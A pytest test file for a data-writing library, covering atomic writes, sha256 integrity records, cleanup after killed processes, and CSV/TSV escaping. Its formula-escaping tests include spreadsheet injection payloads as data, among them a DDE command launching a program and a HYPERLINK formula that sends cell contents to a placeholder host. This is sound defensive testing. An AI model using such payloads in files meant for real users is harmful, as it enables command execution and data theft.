"""Files appear whole or not at all; tables and hashes survive odd content."""

import dataclasses
import json
import multiprocessing
import os
import random
import shutil
import signal
import subprocess
import threading
import time
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from killing import contents, run_and_kill
from mamba_narrative import io
from mamba_narrative.errors import FileFormatError, UserError
from mamba_narrative.process_identity import ProcessIdentity, this_process

any_text = st.text(st.characters(exclude_categories=["Cs"]))


def test_a_failed_write_leaves_the_old_file_and_nothing_beside_it(tmp_path):
    target = tmp_path / "table.tsv"
    target.write_text("old")
    with pytest.raises(RuntimeError), io.atomic_path(target) as beside:
        beside.write_text("half")
        raise RuntimeError
    assert target.read_text() == "old"
    assert list(tmp_path.iterdir()) == [target]


def test_a_failed_folder_leaves_the_old_folder(tmp_path):
    target = tmp_path / "texts"
    target.mkdir()
    (target / "old.txt").write_text("old")
    with pytest.raises(RuntimeError), io.atomic_directory(target) as beside:
        (beside / "new.txt").write_text("half")
        raise RuntimeError
    assert [path.name for path in target.iterdir()] == ["old.txt"]
    assert list(tmp_path.iterdir()) == [target]


def test_a_written_folder_replaces_the_old_one_whole(tmp_path):
    target = tmp_path / "texts"
    target.mkdir()
    (target / "old.txt").write_text("old")
    with io.atomic_directory(target) as beside:
        (beside / "new.txt").write_text("new")
    assert [path.name for path in target.iterdir()] == ["new.txt"]


@given(st.lists(st.fixed_dictionaries({"id": any_text, "note": any_text}), max_size=5))
def test_any_text_survives_a_table(rows):
    lines = io.format_table(["id", "note"], rows)
    assert lines.count("\n") == len(rows) + 1
    assert all(line.count("\t") == 1 for line in lines.split("\n")[:-1])


@given(st.lists(st.fixed_dictionaries({"id": any_text, "note": any_text}), max_size=5))
def test_a_table_read_back_is_the_table_written(tmp_path_factory, rows):
    path = tmp_path_factory.mktemp("table") / "x.tsv"
    io.write_table(path, ["id", "note"], rows)
    # A row of nothing but empty fields is still a row, because its tab remains.
    assert io.read_table(path) == rows


@given(st.lists(st.fixed_dictionaries({"text": any_text}), max_size=5))
def test_json_lines_hold_line_separators_of_every_kind(tmp_path_factory, records):
    path = tmp_path_factory.mktemp("lines") / "x.jsonl"
    io.write_json_lines(path, records)
    assert io.read_json_lines(path) == records


def test_a_missing_column_is_named_with_what_was_found(tmp_path):
    (tmp_path / "x.tsv").write_text("id\tsize\n1\t2\n")
    with pytest.raises(FileFormatError, match=r"x\.tsv: column cluster missing; found id, size"):
        io.read_table(tmp_path / "x.tsv", required=["id", "cluster"])


def test_a_row_of_another_length_is_named_by_its_line(tmp_path):
    (tmp_path / "x.tsv").write_text("id\tsize\n1\t2\n3\n")
    with pytest.raises(FileFormatError, match=r"x\.tsv:3: 1 fields, expected 2"):
        io.read_table(tmp_path / "x.tsv")


@pytest.mark.parametrize(("content", "message"), [(b"{", "not valid JSON"), (b"\xff", "not UTF-8 at byte 0")])
def test_an_unreadable_json_file_is_named(tmp_path, content, message):
    (tmp_path / "x.json").write_bytes(content)
    with pytest.raises(FileFormatError, match=message):
        io.read_json(tmp_path / "x.json")


def test_a_missing_file_is_a_user_error(tmp_path):
    with pytest.raises(UserError, match="cannot be read"):
        io.read_json(tmp_path / "none.json")


def test_nan_is_refused_because_it_is_not_json(tmp_path):
    with pytest.raises(ValueError, match="not JSON compliant"):
        io.write_json(tmp_path / "x.json", {"loss": float("nan")})
    assert list(tmp_path.iterdir()) == []


def test_canonical_json_does_not_depend_on_the_order_of_keys():
    assert io.canonical_json({"b": 1, "a": [2]}) == io.canonical_json(json.loads('{"a": [2], "b": 1}'))


def flip_a_bit(path):
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 1
    path.write_bytes(bytes(data))


WRITERS = {
    "x.json": (lambda path: io.write_json(path, {"a": "bcdef"}), io.read_json),
    "x.jsonl": (lambda path: io.write_json_lines(path, [{"a": "bcdef"}]), io.read_json_lines),
    "x.tsv": (lambda path: io.write_table(path, ["a"], [{"a": "bcdef"}]), io.read_table),
    "x.md": (lambda path: io.write_text(path, "bcdef"), io.read_text),
    "x.npz": (lambda path: io.write_bytes(path, b"bcdef"), io.verify),
}


@pytest.mark.parametrize("name", WRITERS)
def test_a_recorded_file_with_a_flipped_bit_is_refused_with_what_to_do(tmp_path, name):
    write, read = WRITERS[name]
    with io.recorded_outputs():
        write(tmp_path / name)
    read(tmp_path / name)
    flip_a_bit(tmp_path / name)
    with pytest.raises(
        FileFormatError, match=rf"{name}: its sha256 differs .*\.sha256/{name}.*; delete it and run again"
    ):
        read(tmp_path / name)


@pytest.mark.parametrize("name", WRITERS)
def test_a_file_written_again_or_by_others_is_read(tmp_path, name):
    write, read = WRITERS[name]
    for _ in range(2):
        with io.recorded_outputs():
            write(tmp_path / name)
        read(tmp_path / name)
    write(tmp_path / name)  # not recorded: whoever owns this file may edit it
    (tmp_path / name).write_bytes((tmp_path / name).read_bytes() + b"\n")
    read(tmp_path / name)


def test_a_damaged_record_is_refused_too(tmp_path):
    with io.recorded_outputs():
        io.write_text(tmp_path / "x.md", "text")
    flip_a_bit(tmp_path / ".sha256" / "x.md.sha256")
    with pytest.raises(FileFormatError, match="sha256 differs"):
        io.read_text(tmp_path / "x.md")


@pytest.mark.parametrize("died", [1, 2])
def test_a_process_that_dies_between_record_and_file_leaves_a_valid_file(tmp_path, monkeypatch, died):
    path = tmp_path / "history.tsv"
    with io.recorded_outputs():
        io.write_text(path, "old")
    replace = io.os.replace

    def die(source, target):
        if target == path:
            raise KeyboardInterrupt
        replace(source, target)

    for number in range(died):
        with monkeypatch.context() as patch, pytest.raises(KeyboardInterrupt), io.recorded_outputs():
            patch.setattr(io.os, "replace", die)
            io.write_text(path, f"new {number}")
        assert io.read_text(path) == "old"
    with io.recorded_outputs():
        io.write_text(path, "new")
    assert io.read_text(path) == "new"


def test_the_same_text_written_again_leaves_the_same_record(tmp_path):
    records = []
    for _ in range(2):
        with io.recorded_outputs():
            io.write_text(tmp_path / "books.tsv", "book_id\n")
        records.append((tmp_path / ".sha256" / "books.tsv.sha256").read_text())
    assert records == [f"{io.sha256_file(tmp_path / 'books.tsv')}\n"] * 2


def test_files_of_a_folder_written_as_one_are_not_recorded(tmp_path):
    with io.recorded_outputs(), io.atomic_directory(tmp_path / "model") as beside:
        io.write_text(beside / "config.json", "{}")
    assert [path.name for path in (tmp_path / "model").iterdir()] == ["config.json"]


@pytest.mark.parametrize(("content", "message"), [("[" * 100_000, "nested too deeply"), ("1" * 5_000, "thousands of")])
def test_json_that_no_program_writes_is_refused(tmp_path, content, message):
    (tmp_path / "x.json").write_text(content)
    with pytest.raises(FileFormatError, match=rf"x\.json: .*{message}"):
        io.read_json(tmp_path / "x.json")


def test_the_list_of_hashes_is_checked_by_sha256sum(tmp_path):
    (tmp_path / "shard").mkdir()
    (tmp_path / "shard" / "1.txt").write_text("one")
    (tmp_path / "audit.jsonl").write_text("{}")
    io.write_hashes(tmp_path / "x.sha256", [tmp_path / "shard", tmp_path / "audit.jsonl"])
    check = ["sha256sum", "--check", "--strict", "x.sha256"]
    assert subprocess.run(check, cwd=tmp_path, capture_output=True).returncode == 0
    (tmp_path / "shard" / "1.txt").write_text("two")
    assert subprocess.run(check, cwd=tmp_path, capture_output=True).returncode == 1


FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://h/?"&A1)',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1+1",
    "\u3000=1",
    "＝1+1",
    "-rf",
    "--",
    "=",
    "'=1",
    "''=1",
]
NUMBERS = ["-5", "+5", "-0.5", "-1e-05", "-1E+300", "-inf", "nan", "-.5", "-5."]
PLAIN = ["The Turn of the Screw", "", "'Tis Pity", "'", "A = B", "1 + 1", "a@b.org", "Doe, J. -- Fiction", "\\"]
BEGINNINGS = st.text("=+-@'\"\\ \t\n\r5.eaＡ＝", max_size=6)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_is_a_formula_when_a_spreadsheet_opens_the_file(text):
    [cell] = io.format_table(["title"], [{"title": text}]).split("\n")[1:-1]
    for written in (cell, io.csv_field(text)):
        assert written[0] in "'\\"
        assert written.lstrip("'\\ \u3000")[:1] != "" or text.strip("'=") == ""


@pytest.mark.parametrize("number", NUMBERS)
def test_numbers_stay_numbers(number):
    assert io.csv_field(number) == number
    assert io.format_table(["loss"], [{"loss": number}, {"loss": float(number)}]).split("\n")[1] == number
    assert float(io.format_table(["loss"], [{"loss": -0.25}]).split("\n")[1]) == -0.25


@pytest.mark.parametrize("text", PLAIN)
def test_texts_that_are_no_formulas_stay_as_they_are_in_comma_separated_files(text):
    assert io.csv_field(text) == text


@given(BEGINNINGS)
def test_what_is_put_in_front_is_taken_away_again(text):
    assert io.from_csv_field(io.csv_field(text)) == text


@given(st.lists(BEGINNINGS, min_size=1, max_size=5))
def test_tables_give_texts_back_as_they_were(tmp_path_factory, texts):
    path = tmp_path_factory.mktemp("table") / "t.tsv"
    io.write_table(path, ["n", "title"], [{"n": "1", "title": text} for text in texts])
    assert [row["title"] for row in io.read_table(path)] == texts


def test_a_quote_at_the_beginning_of_a_title_takes_no_rows_in_other_programs(tmp_path):
    import csv

    titles = ['"Contraband', "Next", '"I Say No"', "Last"]
    io.write_table(tmp_path / "t.tsv", ["title", "n"], [{"title": title, "n": 1} for title in titles])
    with open(tmp_path / "t.tsv", newline="") as stream:
        assert len(list(csv.reader(stream, delimiter="\t"))) == 5
    assert [row["title"] for row in io.read_table(tmp_path / "t.tsv")] == titles


# What killed processes leave


def leftover(target: Path, kind: str, writer: ProcessIdentity, age_days: float = 0) -> Path:
    """What a process leaves that is killed while it writes ``target``."""
    path = target.with_name(f".{target.name}.{writer}.tmp")
    if kind == "folder":
        path.mkdir()
        (path / "half.txt").write_text("half")
    else:
        path.write_text("half")
    then = time.time() - age_days * 86_400
    os.utime(path, (then, then))
    return path


NOBODY = dataclasses.replace(this_process(), pid=2**22 + 1)
ELSEWHERE = ProcessIdentity("0badcafe", 7, 700)
ANOTHER_START = dataclasses.replace(this_process(), start=this_process().start + 1)


@pytest.mark.parametrize("kind", ["file", "folder"])
@pytest.mark.parametrize(
    ("writer", "age_days", "goes"),
    [
        (NOBODY, 0, True),
        (ANOTHER_START, 0, True),
        (dataclasses.replace(this_process(), pid=os.getppid(), start=0), 9, False),
        (ELSEWHERE, 0.9, False),
        (ELSEWHERE, 1.1, True),
    ],
)
def test_the_next_writer_clears_away_what_a_dead_process_left(tmp_path, kind, writer, age_days, goes):
    target = tmp_path / "000"
    left = leftover(target, kind, writer, age_days)
    io.write_text(target, "whole")
    assert left.exists() != goes
    assert target.read_text() == "whole"


def test_files_of_other_programs_are_left_alone(tmp_path):
    names = [".000.tmp", ".000.123.tmp", "000.tmp", f"000.{NOBODY}.tmp", f".000.{NOBODY}.txt", f".{NOBODY}.tmp"]
    for name in names:
        (tmp_path / name).write_text("mine")
    io.write_text(tmp_path / "000", "whole")
    assert sorted(contents(tmp_path)) == sorted(["000", *names])


def test_writers_that_come_and_die_together_never_spoil_a_file_and_leave_nothing(tmp_path):
    context = multiprocessing.get_context("fork")

    def write(number):
        chance = random.Random(number)
        threading.Timer(chance.random() / 5, lambda: os.kill(os.getpid(), signal.SIGKILL)).start()
        while True:
            io.write_text(tmp_path / "table", f"{number}\n" * 2000)
            with io.atomic_directory(tmp_path / "texts") as beside:
                (beside / "1.txt").write_text(str(number))
                (beside / "2.txt").write_text(str(number))

    processes = [context.Process(target=write, args=(number,)) for number in range(12)]
    for process in processes:
        process.start()
    for process in processes:
        process.join(60)
    assert {process.exitcode for process in processes} == {-signal.SIGKILL}
    assert len(set((tmp_path / "table").read_text().split())) == 1
    assert len({path.read_text() for path in (tmp_path / "texts").iterdir()}) == 1
    io.write_text(tmp_path / "table", "whole")
    assert set(contents(tmp_path)) == {"table", "texts", "texts/1.txt", "texts/2.txt"}


@pytest.mark.parametrize("can_exchange", [True, False])
@pytest.mark.parametrize("old", ["folder", "empty folder", "file", "link", "none"])
def test_a_folder_takes_the_place_of_whatever_is_there(tmp_path, monkeypatch, can_exchange, old):
    if not can_exchange:
        monkeypatch.setattr(io, "_exchange", lambda one, other: False)
    target = tmp_path / "texts"
    if old in ("folder", "empty folder"):
        target.mkdir()
    if old == "folder":
        (target / "1.txt").write_text("old")
    if old == "file":
        target.write_text("old")
    if old == "link":
        (tmp_path / "elsewhere").mkdir()
        target.symlink_to(tmp_path / "elsewhere")
    with io.atomic_directory(target) as beside:
        (beside / "2.txt").write_text("new")
    assert not target.is_symlink()
    assert contents(target) == {"2.txt": b"new"}
    assert {path.name for path in tmp_path.iterdir()} == {"texts", *(["elsewhere"] if old == "link" else [])}


def test_a_folder_is_there_at_every_instant_at_which_it_is_replaced(tmp_path):
    target = tmp_path / "texts"

    def replace():
        with io.atomic_directory(target) as beside:
            for name in ("1.txt", "2.txt"):
                (beside / name).write_text("new")

    old = {"1.txt": b"old"}
    change = began = 0
    while began == change:
        change += 1
        shutil.rmtree(target, ignore_errors=True)
        target.mkdir()
        (target / "1.txt").write_text("old")
        began = run_and_kill(replace, tmp_path, change)
        assert contents(target) in (old, {"1.txt": b"new", "2.txt": b"new"})
    assert change > 4
    io.write_text(tmp_path / "table", "")
    assert {path.name for path in tmp_path.iterdir()} == {"texts", "table"}


def test_names_of_any_length_and_script_can_be_written(tmp_path):
    for name in ("я" * 120, "x" * 240, "漢" * 80):
        io.write_text(tmp_path / name, "whole")
    assert len(list(tmp_path.iterdir())) == 3


def test_of_many_that_create_a_file_one_succeeds(tmp_path):
    assert io.create_text(tmp_path / "x", "first")
    assert not io.create_text(tmp_path / "x", "second")
    assert contents(tmp_path) == {"x": b"first"}
